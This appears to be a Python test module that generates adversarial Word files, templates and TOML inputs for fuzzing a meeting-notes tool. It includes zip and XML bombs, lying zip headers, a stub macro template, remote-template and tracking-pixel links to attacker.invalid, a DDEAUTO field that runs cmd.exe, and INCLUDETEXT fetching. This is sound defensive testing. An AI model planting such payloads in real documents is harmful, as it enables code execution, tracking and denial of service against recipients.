"""The adversarial set of issue 23, made on the spot: Word files, templates and programmes crafted to
take memory, time or a traceback, or to smuggle something into every draft. Nothing large is
committed; each function writes one file and returns its path.

    python -m tests.crafted OUT_FOLDER     # writes every crafted file there, to try them by hand
"""

from __future__ import annotations

import io
import sys
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

from hlmnotes.summary.render.template import parts as template_parts

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def package(parts: Mapping[str, str | bytes]) -> bytes:
    """A zip of ``parts`` (text or bytes), deflated as Word does."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in parts.items():
            archive.writestr(name, data.encode("utf-8") if isinstance(data, str) else data)
    return buffer.getvalue()


def template_with(**changes: str | bytes | None) -> dict[str, str | bytes]:
    """The shipped template's parts with some replaced (``word_document_xml`` names ``word/document.xml``;
    None removes a part)."""
    parts: dict[str, str | bytes] = dict(template_parts())
    for key, value in changes.items():
        name = _name(key)
        if value is None:
            parts.pop(name, None)
        else:
            parts[name] = value
    return parts


def _name(key: str) -> str:
    known = {
        "content_types": "[Content_Types].xml", "rels": "_rels/.rels", "document": "word/document.xml",
        "document_rels": "word/_rels/document.xml.rels", "styles": "word/styles.xml",
        "numbering": "word/numbering.xml", "settings": "word/settings.xml", "header": "word/header1.xml",
        "footer": "word/footer1.xml", "settings_rels": "word/_rels/settings.xml.rels",
        "header_rels": "word/_rels/header1.xml.rels", "vba": "word/vbaProject.bin",
        "vba_rels": "word/_rels/vbaProject.bin.rels",
    }  # fmt: skip
    return known[key]


def _body(inner: str) -> str:
    return f'{HEAD}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{inner}<w:sectPr/></w:body></w:document>'


def with_part(source: Path, path: Path, name: str, change: Callable[[str], str]) -> Path:
    """A copy of the Word file ``source`` with the part ``name`` rewritten by ``change`` (its text)."""
    with zipfile.ZipFile(source) as archive:
        parts: dict[str, str | bytes] = {n: archive.read(n) for n in archive.namelist()}
    data = parts[name]
    parts[name] = change(data.decode("utf-8") if isinstance(data, bytes) else data)
    return write(path, package(parts))


def part_text(source: Path, name: str) -> str:
    with zipfile.ZipFile(source) as archive:
        return archive.read(name).decode("utf-8")


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def meeting(folder: Path, programme: Path, records: Path, draft: bool = True) -> tuple[Path, Path]:
    """A store for ``programme`` in ``folder`` with ``records`` imported, and (``draft``) its Word draft, made
    by the command line as a user makes them."""
    from hlmnotes.cli import main

    store, made = folder / "meeting.sqlite", folder / "draft.docx"
    assert main(["--store", str(store), "init", "--programme", str(programme)]) == 0
    assert main(["--store", str(store), "import", str(records)]) == 0
    assert not draft or main(["--store", str(store), "summary", "-o", str(made)]) == 0
    return store, made


# -- drafts for `check` (and the same files as templates) -----------------------------------------


def empty_paragraphs(path: Path, count: int = 12_000_000) -> Path:
    """A draft of nothing but empty paragraphs: 12 million ``<w:p/>`` zip to about 70 KB (issue 23: 74 KB
    made `check` run 44 s at 2.87 GB)."""
    return write(path, package(template_with(document=_body("<w:p/>" * count))))


def element_bomb(path: Path, count: int = 3_000_000) -> Path:
    """Runs inside one paragraph: few bytes each, millions of elements, every one a python-docx proxy."""
    return write(path, package(template_with(document=_body("<w:p>" + "<w:r/>" * count + "</w:p>"))))


def deep_nesting(path: Path, depth: int = 100_000) -> Path:
    """Elements nested 100,000 deep: a tree walk recurses once a level."""
    return write(path, package(template_with(document=_body("<w:p>" * depth + "</w:p>" * depth))))


def content_types_bomb(path: Path, count: int = 2_000_000) -> Path:
    """A ``[Content_Types].xml`` of two million Default entries (the first part every reader parses)."""
    defaults = '<Default Extension="x" ContentType="a/b"/>' * count
    types = template_parts()["[Content_Types].xml"].replace("<Default ", defaults + "<Default ", 1)
    return write(path, package(template_with(content_types=types)))


def large_part(path: Path, megabytes: int = 300) -> Path:
    """One part of ``megabytes`` of spaces: a few hundred KB zipped, past any part limit unzipped."""
    return write(path, package(template_with(document=_body("") + " " * (megabytes << 20))))


def lying_sizes(path: Path) -> Path:
    """A zip whose directory says ``word/document.xml`` is 100 bytes, holding 50 MB: zip headers can lie."""
    data = bytearray(package(template_with(document=_body("<w:p/>" * 9_000_000))))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("word/document.xml")
    real = info.file_size.to_bytes(4, "little")
    # Rewrite the declared size in the local header and the central directory alike.
    at = data.find(real, info.header_offset)
    data[at : at + 4] = (100).to_bytes(4, "little")
    central = data.rfind(real)
    data[central : central + 4] = (100).to_bytes(4, "little")
    return write(path, bytes(data))


def document_without_body(path: Path) -> Path:
    return write(path, package(template_with(document=f'{HEAD}<w:document xmlns:w="{W}"/>')))


def foreign_root(path: Path) -> Path:
    return write(path, package(template_with(document=f"{HEAD}<foo/>")))


def numbering_start_not_a_number(path: Path) -> Path:
    numbering = template_parts()["word/numbering.xml"].replace('<w:start w:val="1"/>', '<w:start w:val="x"/>', 1)
    return write(path, package(template_with(numbering=numbering)))


def style_num_id_not_a_number(path: Path) -> Path:
    styles = template_parts()["word/styles.xml"].replace('<w:numId w:val="1"/>', '<w:numId w:val="one"/>', 1)
    return write(path, package(template_with(styles=styles)))


def doctype_in_header(path: Path) -> Path:
    """A header with a DOCTYPE declaring an entity (issue 23: `summary` wrote a draft that was not XML)."""
    header = (
        template_parts()["word/header1.xml"]
        .replace(HEAD, HEAD + '<!DOCTYPE w:hdr [<!ENTITY x "pwned">]>', 1)
        .replace("{generated}", "{generated} &x;")
    )
    return write(path, package(template_with(header=header)))


def not_a_zip(path: Path) -> Path:
    return write(path, b"PK\x03\x04 this is not a zip file at all" + bytes(200))


# -- templates that carry something into every draft ----------------------------------------------

_VBA_TYPE = "application/vnd.ms-office.vbaProject"
_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
_DOC_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def macro_template(path: Path) -> Path:
    """A macro-enabled template: ``vbaProject.bin`` related from the main part, a macroEnabled main type."""
    types = (
        template_parts()["[Content_Types].xml"]
        .replace(_DOC_MAIN, _MACRO_MAIN)
        .replace("</Types>", f'<Default Extension="bin" ContentType="{_VBA_TYPE}"/></Types>')
    )
    rels = template_parts()["word/_rels/document.xml.rels"].replace(
        "</Relationships>",
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
        ' Target="vbaProject.bin"/></Relationships>',
    )
    vba = b"\xcc\x61\xff\xff" + b'Attribute VB_Name = "AutoOpen"' + bytes(64)
    return write(path, package(template_with(content_types=types, document_rels=rels, vba=vba)))


def external_links_template(path: Path) -> Path:
    """An attachedTemplate relationship to an outside address, an external image and a hyperlink in the
    header."""
    settings = (
        template_parts()["word/settings.xml"]
        .replace(
            '<w:zoom w:percent="100"/>', f'<w:zoom w:percent="100"/><w:attachedTemplate xmlns:r="{R}" r:id="rIdT"/>'
        )
        .replace(f'xmlns:w="{W}"', f'xmlns:w="{W}" xmlns:r="{R}"', 1)
    )
    settings_rels = (
        f'{HEAD}<Relationships xmlns="{PKG}/relationships"><Relationship Id="rIdT"'
        f' Type="{R}/attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>'
    )
    header_rels = (
        f'{HEAD}<Relationships xmlns="{PKG}/relationships">'
        f'<Relationship Id="rIdImg" Type="{R}/image" Target="http://attacker.invalid/pixel.png" TargetMode="External"/>'
        f'<Relationship Id="rIdLink" Type="{R}/hyperlink" Target="http://attacker.invalid/" TargetMode="External"/>'
        "</Relationships>"
    )
    header = (
        template_parts()["word/header1.xml"]
        .replace(f'xmlns:w="{W}"', f'xmlns:w="{W}" xmlns:r="{R}"', 1)
        .replace(
            "</w:p></w:hdr>",
            '<w:hyperlink r:id="rIdLink"><w:r><w:t>site</w:t></w:r></w:hyperlink>'
            '<w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="rIdImg"/></w:pict></w:r>'
            "</w:p></w:hdr>",
        )
    )
    return write(
        path,
        package(template_with(settings=settings, settings_rels=settings_rels, header=header, header_rels=header_rels)),
    )


def field_template(path: Path, instruction: str) -> Path:
    """A template whose header holds a field (``DDEAUTO …``, ``INCLUDETEXT …``), as simple and complex field."""
    header = template_parts()["word/header1.xml"].replace(
        "</w:p></w:hdr>",
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:hdr>',
    )
    return write(path, package(template_with(header=header)))


def simple_field_template(path: Path, instruction: str) -> Path:
    header = template_parts()["word/header1.xml"].replace(
        "</w:p></w:hdr>",
        f'<w:fldSimple w:instr=" {instruction.replace(chr(34), "&quot;")} "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:hdr>',
    )
    return write(path, package(template_with(header=header)))


# -- programmes ------------------------------------------------------------------------------------


def programme_with(source: Path, path: Path, old: str, new: str) -> Path:
    """``source`` (a programme TOML) with its first ``old`` replaced by ``new``."""
    text = source.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return path


def deep_toml(path: Path, depth: int = 2_000) -> Path:
    path.write_text("x = " + "[" * depth + "]" * depth + "\n", encoding="utf-8")
    return path


def huge_title(source: Path, path: Path, megabytes: int = 60) -> Path:
    text = source.read_text(encoding="utf-8")
    at = text.index("title = ") + len("title = ")
    path.write_text(text[:at] + '"' + "A" * (megabytes << 20) + '"\n#' + text[at:], encoding="utf-8")
    return path


EVERY: dict[str, Callable[[Path], Path]] = {
    "empty-paragraphs.docx": empty_paragraphs,
    "element-bomb.docx": element_bomb,
    "deep-nesting.docx": deep_nesting,
    "content-types-bomb.docx": content_types_bomb,
    "large-part.docx": large_part,
    "lying-sizes.docx": lying_sizes,
    "document-without-body.docx": document_without_body,
    "foreign-root.docx": foreign_root,
    "numbering-start-x.docx": numbering_start_not_a_number,
    "style-numid-one.docx": style_num_id_not_a_number,
    "doctype-in-header.docx": doctype_in_header,
    "not-a-zip.docx": not_a_zip,
    "macro-template.docm": macro_template,
    "external-links-template.docx": external_links_template,
    "ddeauto-template.docx": lambda p: field_template(p, 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"'),
    "includetext-template.docx": lambda p: simple_field_template(p, 'INCLUDETEXT "http://attacker.invalid/x"'),
    "deep.toml": deep_toml,
}


def main(argv: list[str]) -> None:
    out = Path(argv[0]) if argv else Path("crafted")
    out.mkdir(parents=True, exist_ok=True)
    for name, make in EVERY.items():
        made = make(out / name)
        print(f"{made}: {made.stat().st_size:,} bytes")


if __name__ == "__main__":
    main(sys.argv[1:])
